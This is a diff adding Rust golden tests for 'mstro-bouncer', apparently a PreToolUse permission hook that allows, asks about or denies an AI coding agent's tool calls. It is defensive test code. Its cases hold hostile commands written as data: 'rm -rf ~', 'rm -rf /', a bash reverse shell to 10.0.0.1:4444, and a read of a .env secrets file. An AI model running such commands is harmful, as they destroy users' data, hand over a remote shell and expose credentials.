@@ -1,0 +1,181 @@
+//! Golden tests of `mstro-bouncer hook`: exact stdout for each input, exit code 0
+//! always. Run with `MSTRO_BLESS=1` to rewrite the expected files after an intended
+//! change, then review the diff.
+
+use std::io::Write;
+use std::path::PathBuf;
+use std::process::{Command, Stdio};
+
+fn golden_dir() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/golden/hook")
+}
+
+/// Run the hook with a fixed environment, so outputs do not depend on the machine.
+fn run_hook(args: &[&str], stdin: &[u8]) -> (String, i32) {
+    let mut child = Command::new(env!("CARGO_BIN_EXE_mstro-bouncer"))
+        .arg("hook")
+        .args(args)
+        .env_clear()
+        .env("HOME", "/home/dev")
+        .env("CLAUDE_PROJECT_DIR", "/home/dev/project")
+        .env("PATH", "/usr/bin:/bin")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("the mstro-bouncer binary runs");
+    // The hook may answer before reading everything (oversized input): ignore EPIPE.
+    let _ = child.stdin.take().expect("piped").write_all(stdin);
+    let out = child.wait_with_output().expect("the hook exits");
+    (
+        String::from_utf8(out.stdout).expect("UTF-8 output"),
+        out.status.code().unwrap_or(-1),
+    )
+}
+
+fn event(tool: &str, input: serde_json::Value) -> Vec<u8> {
+    serde_json::json!({
+        "session_id": "cef88675-ce4b-49a9-aa3f-d10cb60e2195",
+        "transcript_path": "/home/dev/.claude/projects/-home-dev-project/cef88675.jsonl",
+        "cwd": "/home/dev/project",
+        "prompt_id": "b7336382-70a3-447d-bd9a-64a2a077eeac",
+        "permission_mode": "default",
+        "effort": {"level": "high"},
+        "hook_event_name": "PreToolUse",
+        "tool_name": tool,
+        "tool_input": input,
+        "tool_use_id": "toolu_01a91d811c6d37491186906b",
+        "a_field_from_the_future": true
+    })
+    .to_string()
+    .into_bytes()
+}
+
+fn cases() -> Vec<(&'static str, Vec<&'static str>, Vec<u8>)> {
+    use serde_json::json;
+    vec![
+        ("deny-rm-home", vec![], event("Bash", json!({"command": "rm -rf ~", "description": "Clean up"}))),
+        ("deny-reverse-shell", vec![], event("Bash", json!({"command": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}))),
+        ("ask-git-reset", vec![], event("Bash", json!({"command": "git reset --hard HEAD~2"}))),
+        ("ask-write-profile", vec![], event("Write", json!({"file_path": "/home/dev/.bashrc", "content": "alias x=y\n"}))),
+        ("ask-read-secret", vec![], event("Read", json!({"file_path": "/home/dev/project/.env"}))),
+        ("allow-rule-git-status", vec![], event("Bash", json!({"command": "git status && git diff --stat"}))),
+        ("allow-default-unknown", vec![], event("Bash", json!({"command": "frobnicate --all"}))),
+        ("allow-edit-project", vec![], event("Edit", json!({"file_path": "/home/dev/project/src/main.rs", "old_string": "a", "new_string": "b"}))),
+        ("deny-mcp-command", vec![], event("mcp__shell__run", json!({"command": "rm -rf /"}))),
+        ("headless-review-denies", vec!["--mode", "headless"], event("Bash", json!({"command": "git push --force"}))),
+        ("deploy-unvouched-denies", vec!["--mode", "deploy"], event("Bash", json!({"command": "frobnicate --all"}))),
+        ("empty-input", vec![], Vec::new()),
+        ("malformed-json", vec![], b"{\"tool_name\": \"Bash\", ".to_vec()),
+        ("not-an-object", vec![], b"[1, 2, 3]".to_vec()),
+        ("missing-command", vec![], event("Bash", json!({"description": "no command"}))),
+        ("wrong-event", vec![], br#"{"hook_event_name":"PostToolUse","tool_name":"Bash","tool_input":{"command":"ls"}}"#.to_vec()),
+        ("oversized-input", vec![], vec![b' '; 1024 * 1024 + 1]),
+        ("bad-arguments", vec!["--mode", "yolo"], event("Bash", json!({"command": "ls"}))),
+    ]
+}
+
+#[test]
+fn hook_outputs_match_golden_files() {
+    let bless = std::env::var_os("MSTRO_BLESS").is_some();
+    let mut failures = Vec::new();
+    for (name, args, stdin) in cases() {
+        let (out, code) = run_hook(&args, &stdin);
+        assert_eq!(code, 0, "{name}: the hook must always exit 0");
+        let lines: Vec<&str> = out.lines().collect();
+        assert_eq!(
+            lines.len(),
+            1,
+            "{name}: exactly one line of output, got {out:?}"
+        );
+        let parsed: serde_json::Value = serde_json::from_str(lines[0])
+            .unwrap_or_else(|e| panic!("{name}: not JSON ({e}): {out}"));
+        assert_eq!(
+            parsed["hookSpecificOutput"]["hookEventName"], "PreToolUse",
+            "{name}"
+        );
+        let path = golden_dir().join(format!("{name}.json"));
+        if bless {
+            std::fs::write(&path, &out).expect("write golden file");
+            continue;
+        }
+        match std::fs::read_to_string(&path) {
+            Ok(expected) if expected == out => {}
+            Ok(expected) => {
+                failures.push(format!("{name}:\n  expected {expected}  got      {out}"))
+            }
+            Err(e) => failures.push(format!(
+                "{name}: cannot read {} ({e}); run with MSTRO_BLESS=1",
+                path.display()
+            )),
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn decisions_are_the_expected_ones() {
+    let decision = |name: &str| -> String {
+        let (_, args, stdin) = cases()
+            .into_iter()
+            .find(|c| c.0 == name)
+            .expect("known case");
+        let (out, _) = run_hook(&args, &stdin);
+        let v: serde_json::Value = serde_json::from_str(out.trim()).expect("JSON");
+        v["hookSpecificOutput"]["permissionDecision"]
+            .as_str()
+            .expect("a decision")
+            .to_owned()
+    };
+    for (name, want) in [
+        ("deny-rm-home", "deny"),
+        ("deny-reverse-shell", "deny"),
+        ("ask-git-reset", "ask"),
+        ("ask-write-profile", "ask"),
+        ("ask-read-secret", "ask"),
+        ("allow-rule-git-status", "allow"),
+        ("allow-default-unknown", "allow"),
+        ("allow-edit-project", "allow"),
+        ("deny-mcp-command", "deny"),
+        ("headless-review-denies", "deny"),
+        ("deploy-unvouched-denies", "deny"),
+        ("empty-input", "deny"),
+        ("malformed-json", "deny"),
+        ("not-an-object", "deny"),
+        ("missing-command", "deny"),
+        ("wrong-event", "deny"),
+        ("oversized-input", "deny"),
+        ("bad-arguments", "deny"),
+    ] {
+        assert_eq!(decision(name), want, "{name}");
+    }
+}
+
+#[test]
+fn deny_reasons_say_what_why_instead_and_how_to_proceed() {
+    let (_, args, stdin) = cases().into_iter().find(|c| c.0 == "deny-rm-home").unwrap();
+    let (out, _) = run_hook(&args, &stdin);
+    let v: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
+    let reason = v["hookSpecificOutput"]["permissionDecisionReason"]
+        .as_str()
+        .unwrap();
+    assert!(reason.contains("`rm -rf ~`"), "what matched: {reason}");
+    assert!(
+        reason.contains("filesystem.rm-root-or-home"),
+        "which rule: {reason}"
+    );
+    assert!(
+        reason.contains("never part of a development task"),
+        "why: {reason}"
+    );
+    assert!(reason.contains("Safer:"), "the safer way: {reason}");
+    assert!(
+        reason.contains("run it themselves"),
+        "how a person proceeds: {reason}"
+    );
+    assert!(
+        reason.len() < 600,
+        "short enough for the model to read every time: {}",
+        reason.len()
+    );
+}
